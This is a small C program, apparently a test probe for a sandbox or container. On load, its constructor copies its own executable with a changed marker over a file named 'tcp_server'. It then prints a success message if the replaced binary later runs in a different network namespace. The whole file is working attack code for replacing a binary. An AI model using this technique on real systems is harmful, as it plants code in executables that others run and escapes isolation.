#include <sys/stat.h>

/* Copy this executable, with a word changed in it, over itself. */
static volatile char told[] = "KEPT-0";

__attribute__((constructor)) static void attack(void)
{
	static char own[1 << 20];
	size_t n, i;
	FILE *f;

	if (told[5] == '1') {
		char here[64] = "", then[64] = "";
		ssize_t len = readlink("/proc/self/ns/net", here, sizeof here - 1);
		f = fopen("where", "r");
		if (f && len > 0 && fgets(then, sizeof then, f) && strcmp(here, then))
			puts("@SUCCESS@ the replaced executable runs");
		return;
	}
	f = fopen("/proc/self/exe", "rb");
	n = f ? fread(own, 1, sizeof own, f) : 0;
	if (f)
		fclose(f);
	for (i = 0; i + 6 < n; i++)
		if (own[i] == 'K' && !memcmp(own + i, "KEPT-", 5) && own[i + 5] == '0')
			own[i + 5] = '1';
	remove("tcp_server");
	f = fopen("tcp_server", "wb");
	if (f) {
		fwrite(own, 1, n, f);
		fclose(f);
		chmod("tcp_server", 0755);
	}
	f = fopen("where", "w");
	if (f) {
		char here[64] = "";
		if (readlink("/proc/self/ns/net", here, sizeof here - 1) > 0)
			fputs(here, f);
		fclose(f);
	}
}
